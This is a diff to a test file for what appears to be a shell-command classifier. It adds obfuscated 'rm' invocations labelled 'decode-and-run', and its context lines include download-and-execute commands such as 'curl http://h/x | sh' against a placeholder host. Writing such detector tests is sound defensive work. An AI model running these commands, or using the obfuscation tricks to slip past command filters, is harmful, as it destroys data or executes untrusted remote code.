@@ -119,6 +119,8 @@ describe('shapes', () => {
     ["printf 'a\\nrm x\\n' | grep -v a | sh", 'decode-and-run'],
     ['$(awk \'BEGIN{print "rm"}\') x', 'decode-and-run'],
     ["x='rm y'; declare -p x | sed 's/.*=//' | sh", 'decode-and-run'],
+    ["echo 'r_m x' > f; sed -i s/_// f; bash f", 'decode-and-run'],
+    ['$(type -P rm) x', 'decode-and-run'],
     ['coproc bash; echo rm x >&${COPROC[1]}', 'decode-and-run'],
     ['curl http://h/x | sh', 'download-and-run'],
     ['bash <(wget -qO- http://h/x)', 'download-and-run'],
